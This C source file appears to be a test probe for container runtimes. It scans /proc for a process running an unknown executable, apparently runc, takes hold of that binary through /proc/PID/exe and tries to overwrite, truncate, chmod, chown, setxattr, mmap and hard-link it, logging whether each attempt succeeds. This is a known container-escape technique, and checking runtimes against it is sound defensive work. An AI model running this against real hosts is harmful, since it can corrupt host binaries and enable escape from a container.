/* foreign-exe SECONDS KNOWN…: looks without end for processes that run something else than the known files, takes hold of
 * what they run, and tries in every way to change it, while it runs and SECONDS long afterwards. One line an attempt. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static struct stat known[8];
static int known_count;
static int held = -1;

static int is_known(const struct stat *status) {
  for (int i = 0; i < known_count; i++)
    if (known[i].st_dev == status->st_dev && known[i].st_ino == status->st_ino) return 1;
  return 0;
}

static void tell(const char *attempt, int failed) {
  printf("%s %s\n", attempt, failed ? strerrorname_np(errno) : "DONE");
}

/* True when there was one. */
static int hold(const char *pid) {
  char path[300], comm[32] = "";
  struct stat status;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0 || fstat(fd, &status) < 0 || is_known(&status)) {
    if (fd >= 0) close(fd);
    return 0;
  }
  int direct = open(path, O_RDWR | O_CLOEXEC);
  tell("direct", direct < 0);
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file >= 0 && read(file, comm, sizeof comm - 1) > 0) comm[strcspn(comm, "\n")] = '\0';
  printf("held %s\n", comm);
  held = fd;
  return 1;
}

static void attack(int seconds) {
  char path[64];
  int fd = -1;
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  /* Busy while it runs; runc's was not any more a moment later. */
  for (int i = 0; i < seconds * 100; i++) {
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 || errno != ETXTBSY) break;
    usleep(10000);
  }
  tell("write", fd < 0);
  if (fd >= 0) write(fd, "#!/owned\n", 9);
  tell("truncate", truncate(path, 0) < 0);
  tell("chmod", chmod(path, 0755) < 0);
  tell("chown", chown(path, 0, 0) < 0);
  tell("setxattr", setxattr(path, "user.owned", "1", 1, 0) < 0);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  tell("map", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED);
  tell("link", linkat(AT_FDCWD, path, AT_FDCWD, "/owned", AT_SYMLINK_FOLLOW) < 0);
}

int main(int argc, char **argv) {
  int seconds = atoi(argv[1]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  stat("/proc/self/exe", &known[known_count++]);
  for (int i = 2; i < argc && known_count < 8; i++)
    if (stat(argv[i], &known[known_count]) == 0) known_count++;
  puts("looking");
  while (held < 0) {
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    while (held < 0 && (entry = readdir(processes)))
      if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') hold(entry->d_name);
    closedir(processes);
  }
  attack(seconds);
  puts("end");
  pause();
  return 0;
}
